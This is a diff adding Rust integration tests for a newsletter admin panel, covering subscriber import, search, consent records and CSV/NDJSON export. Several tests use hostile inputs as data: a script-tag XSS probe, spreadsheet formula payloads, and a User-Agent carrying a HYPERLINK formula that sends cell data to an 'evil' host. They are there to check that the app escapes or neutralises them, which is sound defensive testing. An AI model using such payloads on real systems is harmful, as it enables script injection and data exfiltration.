@@ -0,0 +1,822 @@
+use chrono::Utc;
+use uuid::Uuid;
+use wiremock::matchers::{method, path};
+use wiremock::{Mock, ResponseTemplate};
+use zero2prod::domain::SubscriptionStatus;
+use zero2prod::form_token::FormToken;
+
+use crate::helpers::{
+    spawn_app, spawn_app_with, with_custom_attributes, TestApp,
+};
+use crate::login::assert_is_redirect_to;
+
+async fn create_subscriber(app: &TestApp) -> Uuid {
+    let body = "name=le%20guin&email=ursula_le_guin%40gmail.com&form_id=footer";
+
+    let _mock_guard = Mock::given(path("/email"))
+        .and(method("POST"))
+        .respond_with(ResponseTemplate::new(200))
+        .expect(1)
+        .mount_as_scoped(&app.email_server)
+        .await;
+
+    app.post_subscriptions(body.into())
+        .await
+        .error_for_status()
+        .unwrap();
+
+    sqlx::query!("SELECT id FROM subscriptions")
+        .fetch_one(&app.db_pool)
+        .await
+        .expect("Failed to fetch saved subscription.")
+        .id
+}
+
+#[tokio::test]
+async fn you_must_be_logged_in_to_see_a_consent_record() {
+    let app = spawn_app().await;
+    let subscriber_id = create_subscriber(&app).await;
+
+    let response = app.get_subscriber_consent(subscriber_id).await;
+    assert_is_redirect_to(&response, "/login");
+
+    let response = app.get_subscriber_consent_export(subscriber_id).await;
+    assert_is_redirect_to(&response, "/login");
+}
+
+#[tokio::test]
+async fn consent_record_is_viewable_and_exportable_by_admins() {
+    let app = spawn_app().await;
+    let subscriber_id = create_subscriber(&app).await;
+
+    app.login().await;
+
+    let html_page = app
+        .get_subscriber_consent(subscriber_id)
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("ursula_le_guin@gmail.com"));
+    assert!(html_page.contains("<tr><th>Form</th><td>footer</td></tr>"));
+
+    let export: serde_json::Value = app
+        .get_subscriber_consent_export(subscriber_id)
+        .await
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(export["email"], "ursula_le_guin@gmail.com");
+    assert_eq!(export["form_id"], "footer");
+    assert_eq!(export["ip_address"], "127.0.0.1");
+    assert!(export["confirmed_at"].is_null());
+}
+
+#[tokio::test]
+async fn consent_record_of_an_unknown_subscriber_is_not_found() {
+    let app = spawn_app().await;
+
+    app.login().await;
+
+    let response = app.get_subscriber_consent(Uuid::new_v4()).await;
+    assert_eq!(response.status().as_u16(), 404);
+}
+
+#[tokio::test]
+async fn you_must_be_logged_in_to_import_subscribers() {
+    let app = spawn_app().await;
+
+    let response = app.get("/admin/subscribers/import").await;
+    assert_is_redirect_to(&response, "/login");
+
+    let response = app
+        .post_import_subscribers(
+            "email\nursula@example.com\n",
+            "confirmed",
+            None,
+        )
+        .await;
+    assert_is_redirect_to(&response, "/login");
+}
+
+#[tokio::test]
+async fn importing_as_confirmed_stores_valid_rows_and_reports_the_rest() {
+    let app = spawn_app().await;
+    create_subscriber(&app).await;
+    app.login().await;
+
+    let csv = "Email Address,First Name,Last Name\n\
+        octavia@example.com,Octavia,Butler\n\
+        not-an-email,Nobody,\n\
+        Octavia@example.com,Octavia,Butler\n\
+        ursula_le_guin@gmail.com,Ursula,Le Guin\n\
+        terry@mailinator.com,Terry,Pratchett\n\
+        iain@example.com,,\n";
+    let response = app
+        .post_import_subscribers(csv, "confirmed", Some("Opted in on Substack"))
+        .await;
+    assert_eq!(response.status().as_u16(), 303);
+    let report_url = response
+        .headers()
+        .get("Location")
+        .unwrap()
+        .to_str()
+        .unwrap()
+        .to_string();
+
+    let imported = sqlx::query!(
+        "SELECT email, name, status AS \"status: SubscriptionStatus\" \
+        FROM subscriptions \
+        WHERE email <> 'ursula_le_guin@gmail.com' ORDER BY email"
+    )
+    .fetch_all(&app.db_pool)
+    .await
+    .unwrap();
+    assert_eq!(imported.len(), 2);
+    assert_eq!(imported[0].email, "iain@example.com");
+    assert_eq!(imported[0].name, "iain");
+    assert_eq!(imported[1].email, "octavia@example.com");
+    assert_eq!(imported[1].name, "Octavia Butler");
+    assert!(imported
+        .iter()
+        .all(|s| s.status == SubscriptionStatus::Confirmed));
+
+    let html_page = app.get(&report_url).await.text().await.unwrap();
+    assert!(html_page.contains("<p>Imported subscribers: 2</p>"));
+    assert!(html_page.contains("<p>Rejected rows: 4</p>"));
+
+    let response = app.get(&format!("{}/errors.csv", report_url)).await;
+    assert_eq!(
+        response.headers()["Content-Type"],
+        "text/csv; charset=utf-8"
+    );
+    let report = response.text().await.unwrap();
+    let lines: Vec<&str> = report.lines().collect();
+    assert_eq!(lines[0], "line,email,name,reason");
+    assert!(lines[1].starts_with("3,not-an-email,Nobody,"));
+    assert_eq!(
+        lines[2],
+        "4,Octavia@example.com,Octavia Butler,Duplicate of line 2."
+    );
+    assert_eq!(
+        lines[3],
+        "5,ursula_le_guin@gmail.com,Ursula Le Guin,Already subscribed."
+    );
+    assert!(lines[4].starts_with("6,terry@mailinator.com,Terry Pratchett,"));
+    assert_eq!(lines.len(), 5);
+
+    let subscriber_id = sqlx::query!(
+        "SELECT id FROM subscriptions WHERE email = 'octavia@example.com'"
+    )
+    .fetch_one(&app.db_pool)
+    .await
+    .unwrap()
+    .id;
+    let export: serde_json::Value = app
+        .get_subscriber_consent_export(subscriber_id)
+        .await
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(export["form_id"], "csv_import");
+    assert_eq!(export["import_consent_note"], "Opted in on Substack");
+}
+
+#[tokio::test]
+async fn importing_as_confirmed_requires_a_consent_note() {
+    let app = spawn_app().await;
+    app.login().await;
+
+    let response = app
+        .post_import_subscribers(
+            "email\nursula@example.com\n",
+            "confirmed",
+            None,
+        )
+        .await;
+    assert_is_redirect_to(&response, "/admin/subscribers/import");
+
+    let html_page = app.get_import_subscribers_html().await;
+    assert!(html_page.contains(
+        "<p><i>A consent note is required to import subscribers as confirmed.</i></p>"
+    ));
+    let saved = sqlx::query!("SELECT COUNT(*) AS count FROM subscriptions")
+        .fetch_one(&app.db_pool)
+        .await
+        .unwrap();
+    assert_eq!(saved.count, Some(0));
+}
+
+#[tokio::test]
+async fn a_csv_file_without_an_email_column_is_rejected() {
+    let app = spawn_app().await;
+    app.login().await;
+
+    let response = app
+        .post_import_subscribers("name\nUrsula\n", "send_confirmation", None)
+        .await;
+    assert_is_redirect_to(&response, "/admin/subscribers/import");
+
+    let html_page = app.get_import_subscribers_html().await;
+    assert!(html_page.contains("with an email column"));
+}
+
+#[tokio::test]
+async fn import_errors_are_escaped() {
+    let app = spawn_app().await;
+    app.login().await;
+
+    let response = app
+        .post_import_subscribers(
+            "email\nursula@example.com\n",
+            "<script>alert(1)</script>",
+            None,
+        )
+        .await;
+    assert_is_redirect_to(&response, "/admin/subscribers/import");
+
+    let html_page = app.get_import_subscribers_html().await;
+    assert!(!html_page.contains("<script>"));
+    assert!(html_page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
+}
+
+#[tokio::test]
+async fn formulas_are_neutralized_in_the_error_report() {
+    let app = spawn_app().await;
+    app.login().await;
+
+    let csv = "email,name\n\
+        =1+1,@SUM(A1)\n\
+        -2,+cmd\n";
+    let response = app
+        .post_import_subscribers(csv, "confirmed", Some("Opted in on Substack"))
+        .await;
+    let report_url = response
+        .headers()
+        .get("Location")
+        .unwrap()
+        .to_str()
+        .unwrap()
+        .to_string();
+
+    let report = app
+        .get(&format!("{}/errors.csv", report_url))
+        .await
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(report.as_bytes());
+    let rows: Vec<csv::StringRecord> =
+        reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(&rows[0][1], "'=1+1");
+    assert_eq!(&rows[0][2], "'@SUM(A1)");
+    assert_eq!(&rows[1][1], "'-2");
+    assert_eq!(&rows[1][2], "'+cmd");
+}
+
+#[tokio::test]
+async fn importing_with_confirmation_emails_sends_one_per_subscriber() {
+    let app = spawn_app().await;
+    app.login().await;
+
+    Mock::given(path("/email"))
+        .and(method("POST"))
+        .respond_with(ResponseTemplate::new(200))
+        .expect(2)
+        .mount(&app.email_server)
+        .await;
+
+    let response = app
+        .post_import_subscribers(
+            "email,name\nursula@example.com,Ursula\noctavia@example.com,Octavia\n",
+            "send_confirmation",
+            None,
+        )
+        .await;
+    assert_eq!(response.status().as_u16(), 303);
+    // The emails are sent by the worker, not while handling the upload.
+    assert!(app
+        .email_server
+        .received_requests()
+        .await
+        .unwrap()
+        .is_empty());
+    app.dispatch_all_pending_emails().await;
+
+    let statuses = sqlx::query!(
+        "SELECT s.status AS \"status: SubscriptionStatus\" \
+        FROM subscriptions s \
+        JOIN subscription_tokens t ON t.subscriber_id = s.id"
+    )
+    .fetch_all(&app.db_pool)
+    .await
+    .unwrap();
+    assert_eq!(statuses.len(), 2);
+    assert!(statuses
+        .iter()
+        .all(|s| s.status == SubscriptionStatus::PendingConfirmation));
+}
+
+#[tokio::test]
+async fn failed_confirmation_emails_of_imports_are_retried_later() {
+    let app = spawn_app().await;
+    app.login().await;
+
+    Mock::given(path("/email"))
+        .and(method("POST"))
+        .respond_with(ResponseTemplate::new(500))
+        .expect(1)
+        .mount(&app.email_server)
+        .await;
+
+    app.post_import_subscribers(
+        "email\nursula@example.com\n",
+        "send_confirmation",
+        None,
+    )
+    .await;
+    app.dispatch_all_pending_emails().await;
+
+    let task = sqlx::query!(
+        r#"SELECT n_retries, execute_after > now() AS "later!"
+        FROM confirmation_email_queue"#
+    )
+    .fetch_one(&app.db_pool)
+    .await
+    .unwrap();
+    assert_eq!(task.n_retries, 1);
+    assert!(task.later);
+}
+
+#[tokio::test]
+async fn you_must_be_logged_in_to_manage_subscribers() {
+    let app = spawn_app().await;
+    let subscriber_id = create_subscriber(&app).await;
+
+    let response = app.get("/admin/subscribers").await;
+    assert_is_redirect_to(&response, "/login");
+    let response = app
+        .get(&format!("/admin/subscribers/{}", subscriber_id))
+        .await;
+    assert_is_redirect_to(&response, "/login");
+    for action in ["confirm", "resend_confirmation", "unsubscribe", "delete"] {
+        let response = app
+            .post(&format!("/admin/subscribers/{}/{}", subscriber_id, action))
+            .await;
+        assert_is_redirect_to(&response, "/login");
+    }
+
+    let status = sqlx::query!(
+        r#"SELECT status AS "status: SubscriptionStatus" FROM subscriptions"#
+    )
+    .fetch_one(&app.db_pool)
+    .await
+    .unwrap()
+    .status;
+    assert_eq!(status, SubscriptionStatus::PendingConfirmation);
+}
+
+#[tokio::test]
+async fn subscribers_can_be_searched_and_filtered_by_status() {
+    let app = spawn_app().await;
+    create_subscriber(&app).await;
+    app.login().await;
+    app.post_import_subscribers(
+        "email,name\noctavia@example.com,Octavia Butler\niain@example.com,Iain Banks\n",
+        "confirmed",
+        Some("Opted in on Substack"),
+    )
+    .await;
+
+    let html_page = app.get("/admin/subscribers").await.text().await.unwrap();
+    assert!(html_page.contains("<p>3 subscribers</p>"));
+
+    let html_page = app
+        .get("/admin/subscribers?q=BUTLER")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("<p>1 subscribers</p>"));
+    assert!(html_page.contains("octavia@example.com"));
+
+    let html_page = app
+        .get("/admin/subscribers?status=pending_confirmation")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("<p>1 subscribers</p>"));
+    assert!(html_page.contains("ursula_le_guin@gmail.com"));
+
+    // `_` is not a wildcard.
+    let html_page = app
+        .get("/admin/subscribers?q=a_b")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("<p>0 subscribers</p>"));
+}
+
+#[tokio::test]
+async fn subscribers_can_be_filtered_by_sign_up_date() {
+    let app = spawn_app().await;
+    create_subscriber(&app).await;
+    app.login().await;
+
+    let today = chrono::Utc::now().date_naive();
+    let tomorrow = today.succ_opt().unwrap();
+    let html_page = app
+        .get(&format!(
+            "/admin/subscribers?signed_up_from={}&signed_up_to={}",
+            today, today
+        ))
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("<p>1 subscribers</p>"));
+
+    let html_page = app
+        .get(&format!("/admin/subscribers?signed_up_from={}", tomorrow))
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("<p>0 subscribers</p>"));
+
+    let response = app.get("/admin/subscribers?signed_up_from=yesterday").await;
+    assert_eq!(response.status().as_u16(), 400);
+}
+
+#[tokio::test]
+async fn the_subscriber_list_is_paginated() {
+    let app = spawn_app().await;
+    app.login().await;
+    let mut csv = String::from("email\n");
+    for i in 0..60 {
+        csv.push_str(&format!("reader{}@example.com\n", i));
+    }
+    app.post_import_subscribers(
+        &csv,
+        "confirmed",
+        Some("Opted in on Substack"),
+    )
+    .await;
+
+    let html_page = app.get("/admin/subscribers").await.text().await.unwrap();
+    assert!(html_page.contains("Page 1 of 2"));
+    assert_eq!(html_page.matches("@example.com</a>").count(), 50);
+    assert!(html_page.contains(
+        r#"<a href="/admin/subscribers?q=&status=&signed_up_from=&signed_up_to=&page=2">Next &gt;</a>"#
+    ));
+
+    let html_page = app
+        .get("/admin/subscribers?page=2")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("Page 2 of 2"));
+    assert_eq!(html_page.matches("@example.com</a>").count(), 10);
+
+    // Pages past the end are empty, however far.
+    let response = app
+        .get(&format!("/admin/subscribers?page={}", i64::MAX))
+        .await;
+    assert_eq!(response.status().as_u16(), 200);
+    let html_page = response.text().await.unwrap();
+    assert_eq!(html_page.matches("@example.com</a>").count(), 0);
+}
+
+#[tokio::test]
+async fn admins_can_confirm_a_subscriber_manually() {
+    let app = spawn_app().await;
+    let subscriber_id = create_subscriber(&app).await;
+    app.login().await;
+
+    let detail_url = format!("/admin/subscribers/{}", subscriber_id);
+    let html_page = app.get(&detail_url).await.text().await.unwrap();
+    assert!(html_page.contains("<td>pending_confirmation (sign_up)</td>"));
+
+    let response = app.post(&format!("{}/confirm", detail_url)).await;
+    assert_is_redirect_to(&response, &detail_url);
+
+    let html_page = app.get(&detail_url).await.text().await.unwrap();
+    assert!(html_page.contains("The subscriber is now confirmed."));
+    assert!(html_page.contains("<tr><th>Status</th><td>confirmed</td></tr>"));
+    assert!(html_page.contains(&format!(
+        "<td>pending_confirmation -&gt; confirmed (admin)</td><td>{}</td>",
+        app.test_user.username
+    )));
+}
+
+#[tokio::test]
+async fn admins_can_resend_the_confirmation_email() {
+    let app = spawn_app().await;
+    let subscriber_id = create_subscriber(&app).await;
+    app.login().await;
+
+    Mock::given(path("/email"))
+        .and(method("POST"))
+        .respond_with(ResponseTemplate::new(200))
+        .expect(1)
+        .mount(&app.email_server)
+        .await;
+
+    let detail_url = format!("/admin/subscribers/{}", subscriber_id);
+    let response = app
+        .post(&format!("{}/resend_confirmation", detail_url))
+        .await;
+    assert_is_redirect_to(&response, &detail_url);
+
+    let tokens =
+        sqlx::query!("SELECT subscription_token FROM subscription_tokens")
+            .fetch_all(&app.db_pool)
+            .await
+            .unwrap();
+    assert_eq!(tokens.len(), 2);
+}
+
+#[tokio::test]
+async fn admins_can_unsubscribe_and_delete_a_subscriber() {
+    let app = spawn_app().await;
+    let subscriber_id = create_subscriber(&app).await;
+    app.login().await;
+
+    let detail_url = format!("/admin/subscribers/{}", subscriber_id);
+    app.post(&format!("{}/unsubscribe", detail_url)).await;
+    let html_page = app.get(&detail_url).await.text().await.unwrap();
+    assert!(html_page.contains("<tr><th>Status</th><td>unsubscribed</td></tr>"));
+    assert!(html_page
+        .contains("<td>pending_confirmation -&gt; unsubscribed (admin)</td>"));
+
+    // Unsubscribed people cannot be confirmed again.
+    app.post(&format!("{}/confirm", detail_url)).await;
+    let html_page = app.get(&detail_url).await.text().await.unwrap();
+    assert!(html_page
+        .contains("A subscriber cannot go from unsubscribed to confirmed."));
+
+    let response = app.post(&format!("{}/delete", detail_url)).await;
+    assert_is_redirect_to(&response, "/admin/subscribers");
+    let response = app.get(&detail_url).await;
+    assert_eq!(response.status().as_u16(), 404);
+    let response = app.post(&format!("{}/delete", detail_url)).await;
+    assert_eq!(response.status().as_u16(), 404);
+    let saved = sqlx::query!("SELECT COUNT(*) AS count FROM subscriptions")
+        .fetch_one(&app.db_pool)
+        .await
+        .unwrap();
+    assert_eq!(saved.count, Some(0));
+}
+
+#[tokio::test]
+async fn you_must_be_logged_in_to_export_subscribers() {
+    let app = spawn_app().await;
+
+    let response = app.get("/admin/subscribers/export").await;
+    assert_is_redirect_to(&response, "/login");
+}
+
+#[tokio::test]
+async fn subscribers_are_exported_as_csv() {
+    let app = spawn_app().await;
+    create_subscriber(&app).await;
+    app.login().await;
+    app.post_import_subscribers(
+        "email,name\noctavia@example.com,\"Butler, Octavia\"\n",
+        "confirmed",
+        Some("Opted in on Substack"),
+    )
+    .await;
+
+    let response = app.get("/admin/subscribers/export?format=csv").await;
+    assert_eq!(response.status().as_u16(), 200);
+    assert_eq!(
+        response.headers()["Content-Type"],
+        "text/csv; charset=utf-8"
+    );
+    let export = response.text().await.unwrap();
+
+    let mut reader = csv::Reader::from_reader(export.as_bytes());
+    assert_eq!(
+        reader.headers().unwrap(),
+        vec![
+            "id",
+            "email",
+            "name",
+            "status",
+            "subscribed_at",
+            "signup_form",
+            "consent_text_version",
+            "ip_address",
+            "user_agent",
+            "confirmed_at",
+            "confirmation_ip_address",
+            "confirmation_user_agent",
+            "import_consent_note",
+            "attributes"
+        ]
+    );
+    let rows: Vec<csv::StringRecord> =
+        reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2);
+    assert_eq!(&rows[0][1], "ursula_le_guin@gmail.com");
+    assert_eq!(&rows[0][3], "pending_confirmation");
+    assert_eq!(&rows[0][5], "footer");
+    assert_eq!(&rows[0][6], "2023-07-02");
+    assert_eq!(&rows[0][7], "127.0.0.1");
+    assert_eq!(&rows[0][9], "");
+    assert_eq!(&rows[0][12], "");
+    assert_eq!(&rows[1][2], "Butler, Octavia");
+    assert_eq!(&rows[1][5], "csv_import");
+    // Imported subscribers were not seen signing up, the consent note tells
+    // how they opted in.
+    assert_eq!(&rows[1][7], "");
+    assert_eq!(&rows[1][12], "Opted in on Substack");
+    assert_eq!(&rows[1][13], "{}");
+}
+
+#[tokio::test]
+async fn formulas_are_neutralized_in_the_csv_export() {
+    let app = spawn_app().await;
+    let token = FormToken::issue(&app.hmac_secret, Utc::now().timestamp() - 60);
+    Mock::given(path("/email"))
+        .and(method("POST"))
+        .respond_with(ResponseTemplate::new(200))
+        .mount(&app.email_server)
+        .await;
+    app.api_client
+        .post(format!("{}/subscriptions", &app.address))
+        .header("Content-Type", "application/x-www-form-urlencoded")
+        .header("User-Agent", r#"=HYPERLINK("https://evil/?"&B2,"x")"#)
+        .body(format!(
+            "name=%3D1%2B1&email=ursula_le_guin%40gmail.com\
+            &form_issued_at={}&form_signature={}",
+            token.issued_at, token.signature
+        ))
+        .send()
+        .await
+        .unwrap()
+        .error_for_status()
+        .unwrap();
+    app.login().await;
+
+    let export = app
+        .get("/admin/subscribers/export?format=csv")
+        .await
+        .text()
+        .await
+        .unwrap();
+
+    let mut reader = csv::Reader::from_reader(export.as_bytes());
+    let rows: Vec<csv::StringRecord> =
+        reader.records().map(Result::unwrap).collect();
+    assert_eq!(&rows[0][2], "'=1+1");
+    assert_eq!(&rows[0][8], r#"'=HYPERLINK("https://evil/?"&B2,"x")"#);
+}
+
+#[tokio::test]
+async fn subscribers_are_exported_as_ndjson_filtered_by_status_and_form() {
+    let app = spawn_app().await;
+    create_subscriber(&app).await;
+    app.login().await;
+    let mut csv = String::from("email\n");
+    for i in 0..1200 {
+        csv.push_str(&format!("reader{}@example.com\n", i));
+    }
+    app.post_import_subscribers(
+        &csv,
+        "confirmed",
+        Some("Opted in on Substack"),
+    )
+    .await;
+
+    let export = app
+        .get("/admin/subscribers/export?format=ndjson&status=confirmed")
+        .await
+        .text()
+        .await
+        .unwrap();
+    let rows: Vec<serde_json::Value> = export
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    assert_eq!(rows.len(), 1200);
+    assert!(rows.iter().all(|row| row["status"] == "confirmed"));
+    assert_eq!(rows[0]["signup_form"], "csv_import");
+    assert_eq!(rows[0]["import_consent_note"], "Opted in on Substack");
+
+    let export = app
+        .get("/admin/subscribers/export?format=ndjson&signup_form=footer")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert_eq!(export.lines().count(), 1);
+    let row: serde_json::Value = serde_json::from_str(&export).unwrap();
+    assert_eq!(row["consent_text_version"], "2023-07-02");
+    assert_eq!(row["ip_address"], "127.0.0.1");
+    assert!(row["confirmed_at"].is_null());
+    assert!(row["import_consent_note"].is_null());
+
+    let response = app.get("/admin/subscribers/export?status=bogus").await;
+    assert_eq!(response.status().as_u16(), 400);
+}
+
+#[tokio::test]
+async fn admins_can_edit_custom_attributes() {
+    let app = spawn_app_with(with_custom_attributes).await;
+    let subscriber_id = create_subscriber(&app).await;
+    app.login().await;
+
+    let detail_url = format!("/admin/subscribers/{}", subscriber_id);
+    let attributes_url = format!("{}/attributes", detail_url);
+    let response = app
+        .post_form(
+            &attributes_url,
+            &serde_json::json!({
+                "company": "Earthsea",
+                "team_size": "3",
+                "developer": "true",
+            }),
+        )
+        .await;
+    assert_is_redirect_to(&response, &detail_url);
+
+    let html_page = app.get(&detail_url).await.text().await.unwrap();
+    assert!(html_page.contains("The attributes have been updated."));
+    assert!(html_page.contains(r#"name="company" value="Earthsea""#));
+    assert!(html_page.contains(r#"<option value="true" selected>Yes</option>"#));
+    assert!(html_page.contains(&format!(
+        "<td>attributes_updated</td><td>{}</td>",
+        app.test_user.username
+    )));
+
+    // Invalid values are reported and leave the attributes untouched.
+    app.post_form(&attributes_url, &serde_json::json!({"team_size": "many"}))
+        .await;
+    let html_page = app.get(&detail_url).await.text().await.unwrap();
+    assert!(html_page.contains("many is not a valid number for team_size."));
+    let saved = sqlx::query!("SELECT attributes FROM subscriptions")
+        .fetch_one(&app.db_pool)
+        .await
+        .unwrap();
+    assert_eq!(
+        saved.attributes,
+        serde_json::json!({"company": "Earthsea", "team_size": 3, "developer": true})
+    );
+}
+
+#[tokio::test]
+async fn subscribers_can_be_filtered_by_custom_attribute() {
+    let app = spawn_app_with(with_custom_attributes).await;
+    let subscriber_id = create_subscriber(&app).await;
+    app.login().await;
+    app.post_import_subscribers(
+        "email\noctavia@example.com\n",
+        "confirmed",
+        Some("Opted in on Substack"),
+    )
+    .await;
+    app.post_form(
+        &format!("/admin/subscribers/{}/attributes", subscriber_id),
+        &serde_json::json!({"team_size": "12"}),
+    )
+    .await;
+
+    let html_page = app
+        .get("/admin/subscribers?attribute=team_size&attribute_value=12")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(html_page.contains("<p>1 subscribers</p>"));
+    assert!(html_page.contains("ursula_le_guin@gmail.com"));
+
+    let export = app
+        .get("/admin/subscribers/export?format=ndjson&attribute=team_size&attribute_value=12")
+        .await
+        .text()
+        .await
+        .unwrap();
+    let rows: Vec<serde_json::Value> = export
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(rows[0]["attributes"], serde_json::json!({"team_size": 12}));
+
+    for query in [
+        "attribute=country&attribute_value=FR",
+        "attribute=team_size&attribute_value=twelve",
+    ] {
+        let response = app.get(&format!("/admin/subscribers?{}", query)).await;
+        assert_eq!(response.status().as_u16(), 400);
+        let response = app
+            .get(&format!("/admin/subscribers/export?{}", query))
+            .await;
+        assert_eq!(response.status().as_u16(), 400);
+    }
+}